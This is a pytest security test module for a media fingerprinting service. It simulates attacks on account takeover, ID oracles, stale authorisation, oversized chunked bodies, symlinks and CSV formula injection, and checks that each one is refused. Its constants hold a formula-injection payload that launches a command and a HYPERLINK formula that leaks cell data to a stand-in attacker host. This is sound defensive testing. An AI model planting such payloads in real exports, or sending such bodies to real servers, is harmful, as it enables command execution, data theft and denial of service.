"""The service as an attacker sees it, against a real server process: taking over works,
oracles about other accounts' works, stale authorisation after an id is deleted, bodies
read before authentication or past their limits, formula injection in CSV, work bounds per
input, and leftovers (orphaned uploads, symlinks listed from outside the allowed folders).

Each test states the attack, then checks that it fails. The module's server runs over a
library in which the CLI registered one file before the server started.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import select
import socket
import time

import pytest

import mediagen
from helpers import run_cli
from pgserver import new_database, pg_server  # noqa: F401  (fixtures: REELTRACE_TEST_DATABASE=postgres)
from reeltrace.records import ScanResult, Segment, Work, WorkMatch
from reeltrace.report.formats import scan_csv
from reeltrace.service import state
from test_service import (
    ADMIN_TOKEN,
    MAX_UPLOAD_MB,
    Server,
    client,
    make_media,
    synth_frames,
    upload,
    wait_job,
)

INJECTED_QUERY = "=1+1+cmd|' -c calc'!A0.mp4"
INJECTED_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
BOUNDARY = "xxSECURITYxx"
MiB = 1 << 20


# -- raw HTTP: what a hostile client sends, chunk by chunk -----------------------------------


def request_head(path: str, token: str | None, content_type: str, length: int | None = None) -> bytes:
    lines = [f"POST {path} HTTP/1.1", "Host: 127.0.0.1", f"Content-Type: {content_type}"]
    lines.append(f"Content-Length: {length}" if length is not None else "Transfer-Encoding: chunked")
    if token:
        lines.append(f"Authorization: Bearer {token}")
    return ("\r\n".join(lines) + "\r\n\r\n").encode()


def multipart_head(name: str = "big.mp4") -> bytes:
    return (f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="{name}"\r\n'
            "Content-Type: video/mp4\r\n\r\n").encode() + b"\x00\x00\x00\x18ftypmp42"  # fmt: skip


def read_response(sock: socket.socket) -> tuple[int, bytes]:
    """(status, body) of the one answer on ``sock`` (read until its length or the close)."""
    data = b""
    while b"\r\n\r\n" not in data:
        block = sock.recv(65536)
        if not block:
            break
        data += block
    head, _, body = data.partition(b"\r\n\r\n")
    status = int(head.split(b" ", 2)[1])
    length = next((int(v) for k, _, v in (h.partition(b":") for h in head.split(b"\r\n")[1:])
                   if k.strip().lower() == b"content-length"), None)  # fmt: skip
    while length is not None and len(body) < length:
        block = sock.recv(65536)
        if not block:
            break
        body += block
    return status, body


def send_chunked(server: Server, head: bytes, chunks, wait: float = 60.0) -> tuple[int, int, bytes]:
    """Send ``head`` then each chunk of ``chunks`` (chunked encoding) until the server
    answers or stops reading; (bytes of body sent, status, body of the answer)."""
    sock = socket.create_connection(("127.0.0.1", server.port))
    sock.settimeout(wait)
    try:
        sock.sendall(head)
        sent = 0
        for chunk in chunks:
            if select.select([sock], [], [], 0)[0]:
                break  # answered while we still had data to send
            try:
                sock.sendall(b"%x\r\n" % len(chunk) + chunk + b"\r\n")
            except OSError:  # the server closed the connection: it stopped reading
                break
            sent += len(chunk)
        else:
            try:
                sock.sendall(b"0\r\n\r\n")
            except OSError:
                pass
        status, body = read_response(sock)
        return sent, status, body
    finally:
        sock.close()


def rss_kib(server: Server) -> int:
    with open(f"/proc/{server.proc.pid}/status") as fh:
        return next(int(line.split()[1]) for line in fh if line.startswith("VmRSS:"))


def open_files_under(server: Server, folder: str) -> list[str]:
    """Files the server process holds open under ``folder`` (deleted ones too: a spooled
    upload is unlinked as soon as it is created)."""
    out = []
    fds = f"/proc/{server.proc.pid}/fd"
    for fd in os.listdir(fds):
        try:
            target = os.readlink(os.path.join(fds, fd))
        except OSError:
            continue
        if target.startswith(os.path.realpath(folder)):
            out.append(target)
    return out


def upload_folders(server: Server) -> set[str]:
    root = os.path.join(server.library, "service")
    return {os.path.join(k, n) for k in ("works", "queries") for n in os.listdir(os.path.join(root, k))}


def spooled(folder: str) -> list[str]:
    """Files under a server's temp folder (not the hidden ones its libraries keep there)."""
    return [n for n in os.listdir(folder) if not n.startswith(".")]


def json_error(body: bytes, status: int) -> dict:
    doc = json.loads(body)
    assert doc["status"] == status and doc["detail"], doc
    return doc


# -- the module's server ---------------------------------------------------------------------


@pytest.fixture(scope="module")
def media(tmp_path_factory):
    return make_media(str(tmp_path_factory.mktemp("media")))


@pytest.fixture(scope="module")
def sec(tmp_path_factory, media, new_database):
    """A library where the CLI registered the allowed file (mountain-pass.mp4) before the
    server started, with orphaned upload folders and a symlink out of the allowed folder;
    the server, accounts (two owners, a scanner), owner-a's work ``film1`` (titled with a
    formula) and a scan that finds it (its query named with a formula)."""
    base = tmp_path_factory.mktemp("security")
    lib = str(base / "library")
    res = run_cli("--library", lib, "register", media["work_b"], "--title", "Registered with the CLI")
    assert res.code == 0, res.err
    cli_id = res.out.split("\t")[0]
    orphans = []
    for kind in ("works", "queries"):
        folder = os.path.join(lib, "service", kind, "0123456789abcdef")
        os.makedirs(folder)
        with open(os.path.join(folder, "half.mp4"), "wb") as fh:
            fh.write(b"\x00\x00\x00\x18ftypmp42 left by a crash")
        orphans.append(folder)
    database = new_database()
    receiving = None
    if database:
        # Servers that share a database may share the folder: an orphan goes only when
        # nothing in it changed for an hour, and a fresh one may be another's upload.
        hour_ago = time.time() - state.ORPHAN_AGE_S - 60
        for folder in orphans:
            for path in (os.path.join(folder, "half.mp4"), folder):
                os.utime(path, (hour_ago, hour_ago))
        receiving = os.path.join(lib, "service", "queries", "fedcba9876543210")
        os.makedirs(receiving)
        with open(os.path.join(receiving, "part.mp4"), "wb") as fh:
            fh.write(b"\x00\x00\x00\x18ftypmp42 being received")
    link = os.path.join(media["allowed"], "outside.mp4")
    os.symlink(media["work_a"], link)
    tmp = str(base / "server-tmp")
    os.makedirs(tmp)
    srv = Server(lib, allow=[media["allowed"]], env={"TMPDIR": tmp}, database=database).start()
    try:
        admin = client(srv, ADMIN_TOKEN)
        tokens = {"admin": ADMIN_TOKEN}
        for name, role in (("owner-a", "owner"), ("owner-b", "owner"), ("scanner", "scanner")):
            r = admin.post("/api/accounts", json={"name": name, "role": role})
            assert r.status_code == 201, r.text
            tokens[name] = r.json()["token"]
        c = {n: client(srv, t) for n, t in tokens.items()}
        r = upload(c["owner-a"], "/api/works", media["work_a"], work_id="film1", title=INJECTED_TITLE)
        assert r.status_code == 202, r.text
        reg = wait_job(c["owner-a"], f"/api/jobs/{r.json()['job']['id']}")
        assert reg["status"] == "done", reg
        r = upload(c["scanner"], "/api/scans", media["query"], name=INJECTED_QUERY)
        assert r.status_code == 202, r.text
        scan = wait_job(c["scanner"], f"/api/scans/{r.json()['scan']['id']}")
        assert [m["work_id"] for m in scan["result"]["matches"]] == ["film1"], scan
        yield {"server": srv, "c": c, "tokens": tokens, "cli_id": cli_id, "orphans": orphans, "link": link,
               "tmp": tmp, "scan": scan, "reg": reg, "receiving": receiving}  # fmt: skip
    finally:
        srv.stop()
        os.unlink(link)


# -- 1. taking over a work registered with the CLI -------------------------------------------


def test_cli_work_cannot_be_taken_over(sec, media):
    """Owner B registers the file the CLI registered, by its allowed path: the job must not
    hand B the CLI's work (before: 'created: true', and B could read and delete it)."""
    b, admin, cli_id = sec["c"]["owner-b"], sec["c"]["admin"], sec["cli_id"]
    r = b.post("/api/works", data={"path": media["work_b"]})
    assert r.status_code == 202, r.text
    job = wait_job(b, f"/api/jobs/{r.json()['job']['id']}")
    assert job["status"] == "failed" and job["result"] is None, job
    assert cli_id not in job["error"] and "CLI" not in job["error"]
    assert b.get("/api/works").json()["works"] == []
    assert b.get(f"/api/works/{cli_id}").status_code == 404
    assert b.delete(f"/api/works/{cli_id}").status_code == 404
    assert admin.get(f"/api/works/{cli_id}").status_code == 200  # still in the library


# -- 4. oracles about other accounts' works --------------------------------------------------


def test_work_id_answers_reveal_no_other_account(sec, media):
    """Holding a file, an owner computes the CLI's automatic id (a hash prefix) and asks to
    register under it: the answer must be the same whether or not that content is registered
    (before: 409 'already taken' for registered content, 202 for the rest)."""
    b = sec["c"]["owner-b"]
    digest = lambda p: hashlib.sha256(open(p, "rb").read()).hexdigest()  # noqa: E731
    registered, unregistered = "w" + digest(media["work_b"])[:10], "w" + digest(media["other"])[:10]
    assert registered == sec["cli_id"]
    answers = []
    for wid in (registered, unregistered):
        r = upload(b, "/api/works", media["other"], work_id=wid)
        answers.append((r.status_code, r.json()["detail"].replace(wid, "ID")))
    assert answers[0] == answers[1] and answers[0][0] == 400, answers
    # The service's own automatic ids are random: not computable from the file.
    work = sec["reg"]["result"]["work"]
    assert work["work_id"] == "film1"
    r = upload(sec["c"]["owner-a"], "/api/works", media["other"], title="auto id")
    job = wait_job(sec["c"]["owner-a"], f"/api/jobs/{r.json()['job']['id']}")
    auto = job["result"]["work"]["work_id"]
    assert digest(media["other"])[:10] not in auto and job["result"]["work"]["content_hash"] not in auto
    # A taken id answers alike whoever holds it (another account here, the caller below).
    other = upload(b, "/api/works", media["other"], work_id="film1")
    own = upload(sec["c"]["owner-a"], "/api/works", media["other"], work_id="film1")
    assert other.status_code == own.status_code == 409 and other.json() == own.json()
    assert "owner-a" not in other.text


def test_same_content_error_reveals_no_holder(sec, media):
    """Owner B uploads owner A's file, then the CLI's: both refusals read the same (before,
    the first said 'already registered by another account' and the second took the work)."""
    b = sec["c"]["owner-b"]
    errors = []
    for path in (media["work_a"], media["work_b"]):
        r = upload(b, "/api/works", path)
        job = wait_job(b, f"/api/jobs/{r.json()['job']['id']}")
        assert job["status"] == "failed" and job["result"] is None, job
        errors.append(job["error"].replace(job["id"], "JOB"))
    assert errors[0] == errors[1], errors
    for leak in ("owner-a", "film1", "account", sec["cli_id"], "Harbour", "HYPERLINK"):
        assert leak not in errors[0], errors[0]


# -- 6. formula injection in CSV -------------------------------------------------------------


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_service_csv_neutralises_formulas(sec):
    """A query file named as a formula, and a work titled as one, must not reach a
    spreadsheet as formulas through /api/matches?format=csv (before: verbatim)."""
    for who, url in (("scanner", "/api/matches"), ("owner-a", "/api/works/film1/matches"), ("admin", "/api/matches")):
        r = sec["c"][who].get(url, params={"format": "csv"})
        assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv"), r.text
        rows = cells(r.text)
        header = rows[0]
        assert len(rows) > 1, r.text
        for row in rows[1:]:
            assert row[header.index("query")] == "'" + INJECTED_QUERY
            assert row[header.index("title")] == "'" + INJECTED_TITLE
            assert not any(cell.startswith(DANGEROUS) for cell in row), row


def test_scan_csv_neutralises_formulas():
    """``report.formats.scan_csv`` (``reeltrace scan --format csv``) with hostile names."""
    work = Work("w1", "+SUM(1,2)", "@owner", "film", 12.0, "ab" * 32, "/x.mp4", "", True, False)
    results = [
        ScanResult(query="-2+3.mp4", duration=8.0, matches=[WorkMatch(work, "video", 0.9, [Segment(0.0, 5.0, 3.0, 8.0, 0.9)])]),
        ScanResult(query="\tcmd.mp4", error="=ERROR()"),
        ScanResult(query="\rx.mp4", duration=1.0),
    ]  # fmt: skip
    rows = cells(scan_csv(results))
    header = rows[0]
    assert [r[header.index("query")] for r in rows[1:]] == ["'-2+3.mp4", "'\tcmd.mp4", "'\nx.mp4"]
    assert rows[1][header.index("title")] == "'+SUM(1,2)" and rows[1][header.index("owner")] == "'@owner"
    assert rows[2][header.index("error")] == "'=ERROR()"
    for row in rows[1:]:
        assert not any(cell.startswith(DANGEROUS) for cell in row), row
    assert rows[1][header.index("query_start")] == "0.0"  # numbers are left alone


# -- 5. stale authorisation after an id is deleted -------------------------------------------


def test_deleted_id_is_never_handed_to_another_owner(sec, media, tmp_path):
    """A deletes film1 (found by a scan); B registers other content as film1, then reads the
    old match and the scanner's query frame (before: both answered 200)."""
    a, b, scanner, admin = (sec["c"][k] for k in ("owner-a", "owner-b", "scanner", "admin"))
    fresh = mediagen.write_video(str(tmp_path / "fresh.mp4"), synth_frames(909, 4.0, "leaves"))
    sid = sec["scan"]["id"]
    seg = sec["scan"]["result"]["matches"][0]["segments"][0]
    assert a.get(f"/api/scans/{sid}/matches/film1").status_code == 200
    assert a.delete("/api/works/film1").status_code == 200
    r = upload(b, "/api/works", fresh, work_id="film1")
    if r.status_code == 202:  # the attack as it went before: wait for the job
        wait_job(b, f"/api/jobs/{r.json()['job']['id']}")
    assert r.status_code == 409, r.text
    assert upload(admin, "/api/works", media["other"], work_id="film1").status_code == 409
    assert b.get(f"/api/scans/{sid}/matches/film1").status_code == 404
    t = (seg["query_start"] + seg["query_end"]) / 2
    frame = b.get(f"/api/scans/{sid}/matches/film1/frame.jpg", params={"side": "query", "t": t})
    assert frame.status_code == 404
    assert b.get("/api/matches", params={"work_id": "film1"}).json()["matches"] == []
    assert a.get("/api/matches").json()["matches"] == []  # its match rows went with the work
    # The scan's own account still has its result.
    assert scanner.get(f"/api/scans/{sid}/matches/film1").status_code == 200


# -- 3. bodies: authentication first, limits as bytes arrive ---------------------------------


def test_unauthenticated_upload_is_refused_before_its_body(sec):
    """Without a token, a chunked upload must be answered 401 after its first chunk, with
    nothing spooled (before: the server read, and spooled to disk, the whole body first)."""
    srv = sec["server"]
    before = upload_folders(srv)
    head = request_head("/api/scans", None, f"multipart/form-data; boundary={BOUNDARY}")
    sock = socket.create_connection(("127.0.0.1", srv.port))
    sock.settimeout(60)
    try:
        sock.sendall(head + b"%x\r\n" % (len(multipart_head()) + MiB) + multipart_head() + b"\0" * MiB + b"\r\n")
        # 63 more MiB are "still to come": the answer must not wait for them.
        assert select.select([sock], [], [], 60)[0], "no answer without the rest of the body"
        status, body = read_response(sock)
    finally:
        sock.close()
    assert status == 401 and json_error(body, 401)["detail"] == "missing or invalid token"
    assert open_files_under(srv, sec["tmp"]) == [] and spooled(sec["tmp"]) == []
    assert upload_folders(srv) == before
    # A bad token is no better, and console form posts are guarded the same way.
    for path, token in (("/api/works", "rt_not-a-token"), ("/logout-not-a-route", None)):
        sent, status, _ = send_chunked(srv, request_head(path, token, "application/x-www-form-urlencoded"),
                                       (b"a" * MiB for _ in range(64)))  # fmt: skip
        assert status in (401, 303) and sent < 32 * MiB, (path, status, sent)


def test_huge_bodies_do_not_grow_the_server(sec):
    """300 MiB of chunked JSON to /api/accounts, without a token and with the admin's: the
    server must not read it (before: it grew by about 770 MB)."""
    srv = sec["server"]
    start = rss_kib(srv)
    for token, expected in ((None, 401), (ADMIN_TOKEN, 413)):
        chunks = (b'{"name": "' if i == 0 else b"x" * MiB for i in range(300))
        sent, status, body = send_chunked(srv, request_head("/api/accounts", token, "application/json"), chunks)
        assert status == expected and sent < 64 * MiB, (status, sent)
        json_error(body, expected)
    assert rss_kib(srv) - start < 48 * 1024, (start, rss_kib(srv))
    assert open_files_under(srv, sec["tmp"]) == []
    # A declared length over the limit is refused before any of it is sent.
    sent, status, _ = send_chunked(srv, request_head("/api/accounts", ADMIN_TOKEN, "application/json", 1 << 30), [])
    assert status == 413


def test_upload_over_the_limit_is_cut_at_the_limit(sec):
    """With a token, a chunked upload over --max-upload-mb is answered 413 about when it
    passes the limit (before: after the whole body)."""
    srv = sec["server"]
    before = upload_folders(srv)
    limit = MAX_UPLOAD_MB * MiB
    chunks = [multipart_head()] + [b"\0" * (256 << 10)] * (4 * (MAX_UPLOAD_MB + 64))
    head = request_head("/api/scans", sec["tokens"]["scanner"], f"multipart/form-data; boundary={BOUNDARY}")
    sent, status, body = send_chunked(srv, head, chunks)
    assert status == 413 and "too large" in json_error(body, 413)["detail"]
    assert limit <= sent < limit + 32 * MiB, sent
    assert upload_folders(srv) == before and open_files_under(srv, sec["tmp"]) == []
    assert sec["c"]["scanner"].get("/api/scans").status_code == 200


# -- 8. leftovers ----------------------------------------------------------------------------


def test_orphaned_uploads_are_removed_on_start(sec):
    """Upload folders no job refers to (a crash mid-upload) are gone once the server starts;
    those of the registered work and the scan are kept."""
    for folder in sec["orphans"]:
        assert not os.path.exists(folder), folder
    if sec["receiving"]:  # on a shared database: a fresh folder may be another server's upload
        assert os.path.exists(sec["receiving"])
    scan = sec["c"]["admin"].get(f"/api/jobs/{sec['scan']['id']}").json()
    assert scan["status"] == "done"
    assert any(n.startswith("queries/") for n in upload_folders(sec["server"]))


def test_paths_do_not_list_symlinks_out_of_the_allowed_folders(sec, media):
    r = sec["c"]["owner-b"].get("/api/paths")
    assert r.status_code == 200
    assert sec["link"] not in r.json()["files"] and os.path.realpath(media["work_b"]) in r.json()["files"]
    assert sec["c"]["owner-b"].post("/api/works", data={"path": sec["link"]}).status_code == 403


# -- 7. bounds on the work one input may cost ------------------------------------------------


@pytest.fixture(scope="module")
def limited(tmp_path_factory, media, new_database):
    """A server with small limits: 6 s of media, 20000 pixels, a microsecond of decoding per job."""
    lib = str(tmp_path_factory.mktemp("limited") / "library")
    srv = Server(lib, allow=[media["allowed"]], database=new_database(),
                 args=["--max-duration-s", "6", "--max-pixels", "20000", "--max-job-s", "0.000001"]).start()  # fmt: skip
    yield srv
    srv.stop()


def test_input_limits(limited, media, tmp_path):
    c = client(limited, ADMIN_TOKEN)
    small = (160, 90)  # 14400 pixels
    long_small = mediagen.write_video(str(tmp_path / "long.mp4"), synth_frames(7, 10.0, "noise", small))
    short_small = mediagen.write_video(str(tmp_path / "short.mp4"), synth_frames(8, 4.0, "noise", small))
    # Duration and picture size: refused on upload, from the probe (and by path alike).
    r = upload(c, "/api/scans", long_small)
    assert r.status_code == 422 and "too long" in json_error(r.content, 422)["detail"], r.text
    r = upload(c, "/api/works", media["other"])  # 4 s at 320x180 = 57600 pixels
    assert r.status_code == 422 and "picture too large" in json_error(r.content, 422)["detail"], r.text
    r = c.post("/api/works", data={"path": media["work_b"]})  # 8 s at 320x180
    assert r.status_code == 422, r.text
    # Decoding time: enforced in the job, which fails with a one-line error.
    for url, key in (("/api/works", "job"), ("/api/scans", "scan")):
        r = upload(c, url, short_small)
        assert r.status_code == 202, r.text
        job = wait_job(c, f"/api/jobs/{r.json()[key]['id']}")
        assert job["status"] == "failed" and "took longer than the limit" in job["error"], job
        assert "\n" not in job["error"]
    assert c.get("/api/works").json()["works"] == []


# -- 2. an upload that makes the probe fail unexpectedly -------------------------------------


def test_upload_that_breaks_the_probe_is_refused(sec, media, tmp_path):
    """A video whose codec tag is unknown makes PyAV give no codec context, and the probe
    fail outside MediaError: the answer must be a 415 JSON (before: a 500 in plain text)."""
    data = open(media["other"], "rb").read()
    assert b"avc1" in data
    broken = tmp_path / "unknown-codec.mp4"
    broken.write_bytes(data.replace(b"avc1", b"zzzz"))
    before = upload_folders(sec["server"])
    for who, url in (("owner-b", "/api/works"), ("scanner", "/api/scans")):
        r = upload(sec["c"][who], url, str(broken))
        assert r.status_code == 415, r.text
        assert "Traceback" not in r.text and json_error(r.content, 415)["detail"].startswith("unsupported file")
    assert upload_folders(sec["server"]) == before
